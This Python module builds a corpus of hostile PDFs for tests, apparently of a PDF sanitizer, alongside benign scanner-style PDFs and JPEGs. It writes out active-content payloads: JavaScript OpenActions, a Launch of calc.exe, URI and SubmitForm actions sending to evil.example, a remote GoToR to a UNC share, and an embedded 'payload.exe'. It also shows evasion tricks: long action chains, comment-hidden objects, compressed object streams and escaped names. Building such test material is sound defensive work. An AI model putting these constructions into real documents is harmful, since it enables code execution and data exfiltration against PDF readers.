"""A corpus of hostile PDFs, written byte by byte (so nothing a library would tidy away is lost), and a clean scan.

Objects 1–3 are the catalogue, the page tree and one A4 page; a builder adds its objects after them and may give
the catalogue or the page more keys. The cross-reference table is computed from where each object really starts.
"""

from __future__ import annotations

import io
import re
import zlib

from PIL import Image

GOTO = b"/S/GoTo/D[3 0 R/Fit]"
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


def raw_pdf(objects: bytes, *, catalog: bytes = b"", page: bytes = b"", version: bytes = b"1.4") -> bytes:
    """A PDF holding the page, the `objects` ("N 0 obj … endobj", each on its own line) and a correct xref."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    out += b"1 0 obj<</Type/Catalog/Pages 2 0 R" + catalog + b">>endobj\n"
    out += b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    out += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]" + page + b">>endobj\n"
    out += objects
    offsets = {int(m.group(1)): m.start(1) for m in re.finditer(rb"(?m)^(\d+) 0 obj", bytes(out))}
    size = max(offsets) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, xref_at)
    return bytes(out)


def obj(number: int, body: bytes) -> bytes:
    return b"%d 0 obj" % number + body + b"endobj\n"


def open_action(action: bytes) -> bytes:
    """The document runs `action` (an action dictionary's inside) when it opens."""
    return raw_pdf(obj(4, b"<<" + action + b">>"), catalog=b"/OpenAction 4 0 R")


def next_chain(length: int, *, last: bytes = SCRIPT, first: int = 4) -> bytes:
    """`length` GoTo actions, each the /Next of the one before, ending in `last`."""
    chain = b"".join(obj(first + i, b"<<" + GOTO + b"/Next %d 0 R>>" % (first + i + 1)) for i in range(length))
    return chain + obj(first + length, last)


def deep_chain(length: int = 60, *, last: bytes = SCRIPT) -> bytes:
    return raw_pdf(next_chain(length, last=last), catalog=b"/OpenAction 4 0 R")


def comment_hidden_chain(length: int = 60) -> bytes:
    """The chain between "%stream" and "%endstream" comment lines: a byte scan skipping stream bodies skips it."""
    return raw_pdf(b"%stream\n" + next_chain(length) + b"%endstream\n", catalog=b"/OpenAction 4 0 R")


def object_stream_chain(length: int = 60) -> bytes:
    """PDF 1.5: the whole chain inside one compressed object stream, indexed by a cross-reference stream."""
    bodies = [b"<<" + GOTO + b"/Next %d 0 R>>" % (5 + i) for i in range(length)] + [SCRIPT]
    numbers = range(4, 4 + len(bodies))
    header, content = b"", b""
    for number, body in zip(numbers, bodies, strict=True):
        header += b"%d %d " % (number, len(content))
        content += body + b" "
    packed = zlib.compress(header + content)
    stream_number, xref_number = numbers[-1] + 1, numbers[-1] + 2
    out = bytearray(raw_pdf(b"", catalog=b"/OpenAction 4 0 R", version=b"1.5").split(b"xref\n")[0])
    offsets = {int(m.group(1)): m.start(1) for m in re.finditer(rb"(?m)^(\d+) 0 obj", bytes(out))}
    offsets[stream_number] = len(out)
    out += b"%d 0 obj<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
        stream_number,
        len(bodies),
        len(header),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    xref_at = len(out)

    def row(kind: int, field2: int, field3: int) -> bytes:
        return bytes([kind]) + field2.to_bytes(4, "big") + field3.to_bytes(2, "big")

    rows = [row(0, 0, 65535)] + [row(1, offsets[n], 0) for n in (1, 2, 3)]
    rows += [row(2, stream_number, i) for i in range(len(bodies))]
    rows += [row(1, offsets[stream_number], 0), row(1, xref_at, 0)]
    table = b"".join(rows)
    out += b"%d 0 obj<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % (
        xref_number,
        xref_number + 1,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


# Each refused action type, as the document's /OpenAction.
ACTIONS = {
    "JavaScript": b"/S/JavaScript/JS(app.alert(1))",
    "Launch": b"/S/Launch/F(calc.exe)",
    "URI": b"/S/URI/URI(https://evil.example/collect)",
    "GoToR": b"/S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]",
    "GoToE": b"/S/GoToE/T<</R/C/N(payload.pdf)>>",
    "SubmitForm": b"/S/SubmitForm/F<</FS/URL/F(https://evil.example/form)>>",
    "ImportData": b"/S/ImportData/F(data.fdf)",
    "ResetForm": b"/S/ResetForm",
    "RichMedia": b"/S/RichMedia",
    "Sound": b"/S/Sound/Sound 3 0 R",
    "Movie": b"/S/Movie/T(clip)",
    "Rendition": b"/S/Rendition/OP 0",
}


def page_with_automatic_action(action: bytes = ACTIONS["GoToR"]) -> bytes:
    """A page whose /AA runs `action` when it opens (/O)."""
    return raw_pdf(obj(4, b"<<" + action + b">>"), page=b"/AA<</O 4 0 R>>")


def annotation_with_automatic_action() -> bytes:
    """A link annotation that goes to the page when clicked, with /AA running a script when the mouse enters it."""
    annotation = b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<<" + GOTO + b">>/AA<</E 5 0 R>>>>"
    return raw_pdf(obj(4, annotation) + obj(5, SCRIPT), page=b"/Annots[4 0 R]")


def link_to_web_address() -> bytes:
    annotation = b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<<" + ACTIONS["URI"] + b">>>>"
    return raw_pdf(obj(4, annotation), page=b"/Annots[4 0 R]")


def embedded_file() -> bytes:
    """A file attached to the document (the names tree /EmbeddedFiles)."""
    payload = b"MZ\x90\x00"
    return raw_pdf(
        obj(4, b"<</Names[(payload.exe)5 0 R]>>")
        + obj(5, b"<</Type/Filespec/F(payload.exe)/EF<</F 6 0 R>>>>")
        + obj(6, b"<</Type/EmbeddedFile/Length %d>>stream\n" % len(payload) + payload + b"\nendstream"),
        catalog=b"/Names<</EmbeddedFiles 4 0 R>>",
    )


def file_attachment_annotation() -> bytes:
    annotation = b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 5 0 R>>"
    return raw_pdf(obj(4, annotation) + obj(5, b"<</Type/Filespec/F(a.txt)>>"), page=b"/Annots[4 0 R]")


def xfa_form() -> bytes:
    xdp = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"
    return raw_pdf(
        obj(4, b"<</Fields[]/XFA 5 0 R>>") + obj(5, b"<</Length %d>>stream\n" % len(xdp) + xdp + b"\nendstream"),
        catalog=b"/AcroForm 4 0 R",
    )


def document_script() -> bytes:
    """A script in the names tree /JavaScript, run by readers when the document opens."""
    return raw_pdf(obj(4, b"<</Names[(init)5 0 R]>>") + obj(5, SCRIPT), catalog=b"/Names<</JavaScript 4 0 R>>")


def orphan_script() -> bytes:
    """A script object nothing refers to (a reader rebuilding a damaged file could still find it)."""
    return raw_pdf(obj(4, SCRIPT))


def escaped_names() -> bytes:
    """/Java#53cript is /JavaScript once #xx escapes are decoded."""
    return raw_pdf(obj(4, b"<</S/Java#53cript/J#53(app.alert(1))>>"), catalog=b"/OpenAction 4 0 R")


def scanner_pdf(pages: int = 2) -> bytes:
    """What a scanner writes: one JPEG image a page (DCTDecode), 300 dpi, with its producer in /Info."""
    images = [Image.new("RGB", (248, 351), color) for color in ("white", "lightgray", "beige")[:pages]]
    out = io.BytesIO()
    images[0].save(out, "PDF", resolution=30.0, save_all=True, append_images=images[1:], producer="Canon iR-ADV")
    return out.getvalue()


def scanner_jpeg() -> bytes:
    """A scanner's JPEG: 300 dpi, EXIF naming the device."""
    image = Image.new("RGB", (248, 351), "white")
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "Canon", "iR-ADV C5535"
    out = io.BytesIO()
    image.save(out, "JPEG", dpi=(300, 300), exif=exif, quality=85)
    return out.getvalue()
